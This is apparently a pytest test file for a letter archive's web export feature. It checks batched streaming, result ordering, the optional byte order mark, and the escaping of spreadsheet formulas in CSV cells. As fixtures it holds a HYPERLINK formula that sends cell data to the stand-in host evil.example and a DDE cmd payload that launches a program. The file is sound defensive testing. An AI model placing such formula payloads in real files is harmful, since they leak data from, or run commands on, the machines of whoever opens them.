"""Exports: one search streamed in batches, the paged API's order, CSV cells a spreadsheet
cannot run, and a byte order mark on request. Over real HTTP, on a small built archive."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from indexer import indexing
from indexer.archive import lifecycle
from indexer.search import SearchRequest
from tests.conftest import Env, LiveServer, app_config, write_letter
from webapp import create_app

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full letter")'
# Letters whose words repeat unevenly, so relevance, date and id orders all differ.
PLAIN = [
    (
        f"letter-{i:02d}",
        f"19{10 + (i * 7) % 13:02d}-0{1 + i % 9}-1{i % 9}",
        "harbour " * (1 + i % 4),
    )
    for i in range(12)
]


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Env:
    root = tmp_path_factory.mktemp("exports")
    letters = root / "archive"
    (letters / "letters").mkdir(parents=True)
    for letter_id, date, words in PLAIN:
        write_letter(
            letters,
            letter_id,
            [f"Dear Sir,\n{words}and lighthouse keepers.\n"],
            {"title": f"Letter {letter_id}", "date": date},
        )
    # A transcript whose first line is a spreadsheet formula, and metadata that look like some.
    write_letter(
        letters,
        "formula-letter",
        [f"{FORMULA}\nharbour dues of the Société Générale, Genève.\n"],
        {
            "title": "@SUM(1+1) harbour",
            "date": "1920-05-05",
            "sender": {"name": "-2+3", "organisation": "+Société Générale"},
            "recipient": {"name": "Zoë Müller", "organisation": "=cmd|' /C calc'!A0"},
        },
    )
    env = Env(root)
    report = env.build()
    assert not report.errors, report.errors
    return env


@pytest.fixture(scope="module")
def server(archive):
    server = LiveServer(create_app(app_config(archive) | {"EXPORT_BATCH": 3}))
    yield server
    server.stop()


def csv_rows(server, path: str) -> tuple[dict, list[dict[str, str]]]:
    status, headers, body = server.get(path)
    assert status == 200, body[:300]
    return headers, list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def api_ids(server, query: str, per_page: int = 4) -> list[str]:
    """The ids of every page of /api/search, page after page."""
    ids, page = [], 1
    while True:
        status, _, body = server.get(f"/api/search?{query}&per_page={per_page}&page={page}")
        data = json.loads(body)
        assert status == 200, data
        ids += [h["id"] for h in data["hits"]]
        if page >= data["last_page"]:
            return ids
        page += 1


def test_a_formula_from_a_transcript_is_shown_as_text_in_the_csv(server):
    _, rows = csv_rows(server, "/search.csv?q=HYPERLINK")
    assert [r["id"] for r in rows] == ["formula-letter"]
    row = rows[0]
    assert row["snippet"].startswith("'=HYPERLINK(")  # the transcript's first line, neutralised
    assert row["snippet"][1:].startswith(FORMULA)  # and otherwise kept as written
    assert row["title"] == "'@SUM(1+1) harbour"
    assert row["sender_name"] == "'-2+3"
    assert row["sender_organisation"] == "'+Société Générale"
    assert row["recipient_organisation"] == "'=cmd|' /C calc'!A0"
    assert row["recipient_name"] == "Zoë Müller"  # ordinary text is left alone
    # In every cell of every row of a wider export, nothing starts like a formula.
    _, everything = csv_rows(server, "/search.csv?q=harbour")
    assert len(everything) == 13
    for r in everything:
        for column, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (column, value)


def test_other_formats_keep_the_text_as_written(server):
    status, _, body = server.get("/search.json?q=HYPERLINK")
    hit = json.loads(body)["hits"][0]
    assert hit["title"] == "@SUM(1+1) harbour" and hit["sender"]["name"] == "-2+3"


def test_bom_on_request_and_accents_survive(server):
    status, headers, plain = server.get("/search.csv?q=Gen%C3%A8ve")
    assert status == 200 and not plain.startswith(b"\xef\xbb\xbf")
    status, headers, marked = server.get("/search.csv?q=Gen%C3%A8ve&bom=1")
    assert status == 200 and headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert marked == b"\xef\xbb\xbf" + plain
    rows = list(csv.DictReader(io.StringIO(marked.decode("utf-8-sig"))))
    assert rows[0]["id"] == "formula-letter" and rows[0]["recipient_name"] == "Zoë Müller"
    status, _, body = server.get("/search.csv?q=harbour&bom=maybe")
    assert status == 400 and b"bom='maybe' is not a switch; accepted: 1 or 0" in body


@pytest.mark.parametrize(
    "query", ["q=harbour", "q=harbour&sort=date", "q=harbour&sort=-date", "q=lighthouse"]
)
def test_an_export_holds_the_ids_of_the_paged_api_in_the_same_order(server, query):
    paged = api_ids(server, query)
    assert len(paged) >= 12
    headers, rows = csv_rows(server, f"/search.csv?{query}")
    assert [r["id"] for r in rows] == paged
    assert headers["X-Total-Count"] == str(len(paged))
    status, _, body = server.get(f"/search.json?{query}")
    data = json.loads(body)
    assert [h["id"] for h in data["hits"]] == paged and data["exported"] == len(paged)
    status, _, body = server.get(f"/search.ris?{query}")
    ris_ids = [line.rsplit("/", 1)[1] for line in body.decode().splitlines() if "UR  - " in line]
    assert ris_ids == paged


def test_the_export_searches_once_and_streams_its_batches(archive):
    """Twelve letters in batches of 3: one search for the ids, four batches read by id."""
    app = create_app(app_config(archive) | {"EXPORT_BATCH": 3})
    search = app.extensions["missive.search"]
    calls: list[str] = []
    for name in ("search", "ordered", "hits"):
        real = getattr(search, name)
        setattr(
            search,
            name,
            lambda *a, _real=real, _name=name, **k: calls.append(_name) or _real(*a, **k),
        )
    server = LiveServer(app)
    try:
        status, headers, body = server.get("/search.csv?q=lighthouse")
    finally:
        server.stop()
    assert status == 200 and len(body.decode().splitlines()) == 1 + 12
    assert calls == ["ordered", "hits", "hits", "hits", "hits"]
    assert "Content-Length" not in headers  # streamed, not built whole first


def test_a_letter_withdrawn_while_an_export_runs_is_left_out(env):
    for letter_id in ("alpha", "beta", "gamma"):
        write_letter(
            env.archive.root, letter_id, ["A letter about harbours."], {"title": letter_id}
        )
    env.build()
    search = env.search()
    try:
        ordered = search.ordered(SearchRequest(q="harbours", sort="date"), 100)
        assert [i for i, _ in ordered.letters] == ["alpha", "beta", "gamma"]
        lifecycle.set_status(env.archive, "beta", "withdrawn", by="alice", reason="A copy")
        indexing.update(env.archive, env.engine, env.reader)
        hits = search.hits(ordered.letters, ordered.marks)  # batches read after the change
        assert [h.id for h in hits] == ["alpha", "gamma"]
        assert [h.id for h in search.hits(ordered.letters, {}, unpublished=True)] == [
            "alpha",
            "beta",
            "gamma",
        ]
    finally:
        search.close()


def test_csv_documents_its_columns_and_options():
    web = (Path(__file__).resolve().parents[1] / "docs" / "web.md").read_text(encoding="utf-8")
    assert "bom=1" in web and "snippet" in web and "'" in web
